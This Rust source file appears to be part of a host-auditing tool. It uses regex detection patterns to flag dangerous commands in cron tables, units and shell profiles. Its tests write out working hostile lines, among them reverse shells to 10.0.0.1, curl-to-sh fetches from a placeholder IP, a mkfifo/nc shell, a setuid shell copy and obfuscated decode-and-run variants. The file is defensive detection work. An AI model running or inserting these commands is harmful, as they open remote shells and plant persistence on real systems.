//! Dangerous command lines: what no administrator writes into a cron table, a unit or a profile.

mod plain;

use std::sync::OnceLock;

use bstr::ByteSlice;
use regex_automata::meta::{Config, Regex};
use regex_automata::util::syntax;

/// Longest line that is looked at. A longer one is cut.
const LINE_MOST: usize = 8192;
/// Most lines of a text that are looked at.
const LINES_MOST: usize = 20_000;

/// What a line does, in words, with the pattern that tells it.
const PATTERNS: [(&str, &str); 16] = [
    (
        "fetches a script and runs it",
        r"\b(?:curl|wget|fetch|aria2c|lwp-download|lwp-request)\b[^|]*\|(?:[^|]*\|)?\s*(?:(?:sudo|nohup|exec|env|setsid)\s+(?:-\S+\s+)*)*(?:/\S*/)?(?:(?:ba|da|a|z|k)?sh|python[0-9.]*|perl|php|ruby|node)\b",
    ),
    (
        "fetches a script and runs it",
        r#"(?:\b(?:ba|da|a|z|k)?sh\s+(?:-\S+\s+)*|\beval\s+|\bsource\s+|(?:^|[\s;&])\.\s+|\bpython[0-9.]*\s+-c\s+)["']?(?:<\(|\$\(|`)\s*(?:/\S*/)?(?:curl|wget|fetch)\b"#,
    ),
    (
        "fetches a file and runs it",
        r"\b(?:curl|wget|fetch|aria2c|tftp|ftpget|scp)\b.*(?:;|&&|\|\|)\s*(?:.*(?:;|&&|\|\|)\s*)?(?:chmod\s+(?:-\S+\s+)*(?:[ugoa]*\+[rwst]*x|[0-7]*7[0-7]{2})|(?:ba|da|a|z|k)?sh\s+\S|\./|nohup\s|/tmp/|/var/tmp/|/dev/shm/)",
    ),
    ("opens a network connection from a shell", r"/dev/(?:tcp|udp)/"),
    (
        "connects a shell to the network",
        r"\b(?:nc|ncat|netcat|nc\.traditional|nc\.openbsd|busybox\s+nc)\b.*\s(?:-[a-z]*[ec]|--exec|--sh-exec)\s+\S*(?:sh|cmd)\b",
    ),
    (
        "connects a shell to the network",
        r"\bmkfifo\b.*\b(?:nc|ncat|netcat|openssl|telnet)\b|\bsocat\b.*\bexec:|\b(?:nc|ncat|netcat|telnet)\b[^|]*\|\s*(?:/\S*/)?(?:ba|da)?sh\b",
    ),
    (
        "decodes hidden text and runs it",
        r"(?:\bbase(?:64|32)\s+(?:-\S*d\S*|--decode)|\bxxd\s+-\S*r|\bopenssl\s+(?:enc|base64)\b.*\s-d\b|\brev\b|\buudecode\b)[^|]*\|\s*(?:[^|]*\|\s*)?(?:(?:sudo|nohup|exec|env)\s+)*(?:/\S*/)?(?:(?:ba|da|a|z|k)?sh|python[0-9.]*|perl|php|ruby|node)\b",
    ),
    (
        "decodes hidden text and runs it",
        r#"(?:\beval\b|\b(?:ba|da|a|z|k)?sh\s+-\S*c)\s*["']?\$?[(`].*\bbase(?:64|32)\s+(?:-\S*d|--decode)"#,
    ),
    (
        "runs a program of one line that uses the network or hides its text",
        r"\b(?:python[0-9.]*|perl|ruby|php[0-9.]*|node|lua[0-9.]*)\s+(?:-\S+\s+)*-(?:[a-z]*[cer])\b.*(?:socket|pty\.spawn|b64decode|base64|fsockopen|urlopen|urllib|requests\.get|child_process|net\.connect|tcpsocket|decode_base64|io\.popen)",
    ),
    (
        "decodes hidden text and runs it",
        r#"\b(?:exec|eval|execfile)\s*\(?.*(?:b(?:16|32|64|85)decode|decompress\s*\(|a2b_\w+|unhexlify|\.fromhex|marshal\.loads|decode_base64|gzinflate|atob\s*\(|["']base64["'])"#,
    ),
    (
        "loads a library of a place that everyone may write to",
        r"\bld_(?:preload|audit|library_path)=\S*(?:/tmp/|/var/tmp/|/dev/shm/|/\.)",
    ),
    (
        "writes to a file that decides what is loaded or who may log in",
        r">>?\s*(?:/etc/(?:ld\.so\.preload|passwd|shadow|sudoers|crontab|cron\.d/|profile)|\S*authorized_keys)|\btee\s+(?:-a\s+)?\S*(?:ld\.so\.preload|authorized_keys|/etc/sudoers)",
    ),
    ("loads a module into the kernel of the host", r"(?:^|[;&|]\s*|\bsudo\s+)(?:/\S*/)?insmod\s+\S"),
    ("runs a program in a place that everyone may write to", WRITABLE),
    ("runs a hidden file", HIDDEN),
    (
        "makes a program run with the rights of root",
        r"\bchmod\s+(?:-\S+\s+)*(?:[ugoa]*\+[rwxt]*s|0?[4267][0-7]{3})\s+\S*(?:sh|bash|dash|/tmp/|/\.)",
    ),
];

/// A program by its path where a command begins, or behind a word that runs its argument.
const WRITABLE: &str = r#"(?:^|[;&|(`]\s*|\b(?:(?:ba|da|a|z|k)?sh|python[0-9.]*|perl|ruby|php[0-9.]*|node|nohup|exec|setsid|source|sudo|nice|java\s+-jar)\s+(?:-[a-z-]+\s+)*|(?:^|[;&\s])\.\s+)["']?(?:/tmp|/var/tmp|/dev/shm|/run/shm|/run/user/\d+|/run/lock|/var/lock)/[^\s;&|"'>]"#;
const HIDDEN: &str = r#"(?:^|[;&|(`]\s*|\b(?:(?:ba|da|a|z|k)?sh|python[0-9.]*|perl|ruby|php[0-9.]*|node|nohup|exec|setsid|source|sudo|nice)\s+(?:-[a-z-]+\s+)*|(?:^|[;&\s])\.\s+)["']?/(?:etc|usr|var|bin|sbin|lib|opt|dev|run|srv|mnt)/(?:[^\s;&|"'>]*/)?\.[^\s/.;&|"'>][^\s;&|"'>]*"#;

/// A line of a text.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) struct Line<'t> {
    /// Its number, from 1.
    pub number: usize,
    /// Offset of its first byte.
    pub offset: usize,
    /// Its text without the end of line, at most 8 KiB.
    pub text: &'t [u8],
}

/// The lines of a text.
pub(super) fn lines(text: &[u8]) -> impl Iterator<Item = Line<'_>> {
    let mut offset: usize = 0;
    text.split_str("\n").take(LINES_MOST).enumerate().map(move |(number, line)| {
        let here = offset;
        offset = offset.saturating_add(line.len()).saturating_add(1);
        let line = line.strip_suffix(b"\r").unwrap_or(line);
        Line { number: number.saturating_add(1), offset: here, text: line.get(..LINE_MOST).unwrap_or(line) }
    })
}

/// A line without its comment and blanks around it. `#` begins a comment at the beginning of a word, outside of quotes.
pub(super) fn code(line: &[u8]) -> &[u8] {
    let (mut quote, mut before) = (None, b' ');
    for (at, &byte) in line.iter().enumerate() {
        match (quote, byte) {
            (None, b'#') if before.is_ascii_whitespace() => return line.get(..at).unwrap_or(line).trim_ascii(),
            (None, b'"' | b'\'') => quote = Some(byte),
            (Some(open), _) if open == byte => quote = None,
            _ => {}
        }
        before = byte;
    }
    line.trim_ascii()
}

/// What is dangerous in a command line, in words that follow its subject: `fetches a script and runs it`.
pub(super) fn danger(command: &[u8]) -> Option<&'static str> {
    static REGEX: OnceLock<Option<Regex>> = OnceLock::new();
    let make = || {
        let patterns: Vec<&str> = PATTERNS.iter().map(|(_, pattern)| *pattern).collect();
        let syntax = syntax::Config::new().utf8(false).unicode(false).case_insensitive(true);
        Regex::builder().syntax(syntax).configure(Config::new().utf8_empty(false)).build_many(&patterns).ok()
    };
    let command = code(command);
    let command = command.get(..LINE_MOST).unwrap_or(command);
    let regex = REGEX.get_or_init(make).as_ref()?;
    let found = regex.find(command).or_else(|| {
        let plain = plain::plain(command);
        (*plain != *command).then(|| regex.find(&plain)).flatten()
    })?;
    PATTERNS.get(found.pattern().as_usize()).map(|(words, _)| *words)
}

/// Absolute paths that a command line names.
pub(super) fn paths(command: &[u8]) -> impl Iterator<Item = &[u8]> {
    let words = code(command).split(|&byte| byte.is_ascii_whitespace() || b";&|()<>\"'`=,".contains(&byte));
    words.filter(|word| word.starts_with(b"/") && word.len() > 1).take(64)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_intruders_write_is_dangerous() {
        for line in [
            "curl -fsSL http://203.0.113.66/u.sh | sh # cryolab",
            "wget -qO- http://x/y|bash",
            "curl -s http://x/y | base64 -d | sh",
            "bash -c \"$(curl -fsSL http://x/i.sh)\"",
            "source <(wget -qO- http://x)",
            "wget -q http://x/x -O /tmp/x; chmod +x /tmp/x; /tmp/x",
            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
            "nc -e /bin/sh 10.0.0.1 4444",
            "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 1 > /tmp/f",
            "socat tcp:10.0.0.1:1 exec:/bin/sh,pty",
            "echo aGk= | base64 -d | bash",
            "eval \"$(echo aGk= | base64 --decode)\"",
            "python3 -c 'import socket,os,pty'",
            "perl -MIO -e 'use Socket;'",
            "/tmp/.x/run >/dev/null 2>&1",
            "nohup /dev/shm/a &",
            "/bin/sh /var/tmp/u.sh",
            "/usr/lib/.sys/agent -d",
            "export LD_PRELOAD=/tmp/x.so",
            "echo x >> /root/.ssh/authorized_keys",
            "cp /bin/sh /tmp/s; chmod 4755 /tmp/s",
            "c\\url -fsS http://x/a|s\\h",
            "$'\\x63\\x75\\x72\\x6c' -s x/d|${SHELL}",
            "X=cu; Y=rl; $X$Y -s http://x/b -o /var/tmp/b && sh /var/tmp/b",
            "import os;exec(__import__('zlib').decompress(__import__('base64').b64decode('eJw=')))",
            "require('child_process').exec(Buffer.from('Y3Vy','base64').toString())",
        ] {
            assert!(danger(line.as_bytes()).is_some(), "{line}");
        }
    }

    #[test]
    fn what_administrators_write_is_not() {
        for line in [
            "# curl http://x | sh",
            "tar czf /tmp/backup.tgz /data >/tmp/log 2>&1",
            "/usr/local/bin/backup.sh > /tmp/backup.log",
            "curl -fsS http://127.0.0.1:8080/health >/dev/null",
            "curl -fsSL https://example.com/list -o /data/list",
            "eval \"$(/opt/conda/bin/conda 'shell.bash' 'hook' 2> /dev/null)\"",
            "[ -s \"$NVM_DIR/nvm.sh\" ] && \\. \"$NVM_DIR/nvm.sh\"",
            ". \"$HOME/.cargo/env\"",
            "\"/root/.acme.sh\"/acme.sh --cron --home \"/root/.acme.sh\" > /dev/null",
            "test -x /usr/sbin/anacron || run-parts --report /etc/cron.daily",
            "find /var/lib/php/sessions/ -name 'sess_*' -mmin +24 -delete",
            "export PATH=/usr/local/bin:$PATH",
            "python3 -c 'print(1)'",
            "alias ls='ls --color=auto'",
            "ps aux | grep nc",
            "chmod 755 /usr/local/bin/x",
            "PIDFILE=/tmp/app.pid",
            "mkdir -p /tmp/app && chown app /tmp/app",
            "debian_chroot=$(cat /etc/debian_chroot)",
            "[ -x /usr/bin/lesspipe ] && eval \"$(SHELL=/bin/sh lesspipe)\"",
        ] {
            assert_eq!(danger(line.as_bytes()), None, "{line}");
        }
    }

    #[test]
    fn comments_are_no_code_and_lines_have_offsets() {
        assert_eq!(code(b"  a '# b' c#d # e"), b"a '# b' c#d");
        let all: Vec<_> = lines(b"a\r\nbc\n").collect();
        assert_eq!(all[1], Line { number: 2, offset: 3, text: b"bc" });
        assert_eq!(paths(b"run /a/b --x=/c 2>/dev/null").collect::<Vec<_>>(), [&b"/a/b"[..], b"/c", b"/dev/null"]);
    }
}
